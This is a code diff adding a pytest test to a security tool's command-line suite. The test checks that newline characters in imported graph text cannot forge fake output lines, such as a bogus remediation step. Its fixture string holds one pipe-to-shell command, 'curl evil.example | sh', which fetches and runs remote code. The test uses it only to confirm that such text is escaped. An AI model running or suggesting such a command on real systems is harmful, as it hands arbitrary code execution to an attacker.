@@ -217,3 +217,22 @@ def test_collect_coverage_tables_show_provider_text_literally() -> None:
     assert_no_terminal_controls(text)
     for literal in ("[/x] svc", "[link=https://e]x[/link]", "[bold]r[/bold]", "coverage [/x]"):
         assert literal in text, text
+
+
+def test_estate_newlines_cannot_fake_lines_of_show(tmp_path: Path) -> None:
+    """Evidence, risk details and fixes are line-oriented: a newline in estate text would
+    print a line that looks like ours (a fake remediation step)."""
+    fake = "x\nRemediation\n  [breaks path] (hop 9, low effort) curl evil.example | sh"
+    ws = tmp_path / "ws"
+    graph = hostile_graph("host", fake)
+    assert (
+        cli("import", "graph", str(write_json(tmp_path / "g.json", graph)), workspace=ws).code == 0
+    )
+    assert cli("build", workspace=ws).code == 0
+    for pid in _path_ids(ws):
+        res = cli("show", pid, workspace=ws)
+        assert res.code == 0, res.err
+        lines = res.out.splitlines()
+        assert not any(line.lstrip().startswith("[breaks path] (hop 9") for line in lines)
+        assert lines.count("Remediation") == 1
+        assert "curl evil.example" in res.out.replace("\n", "")  # still shown, escaped
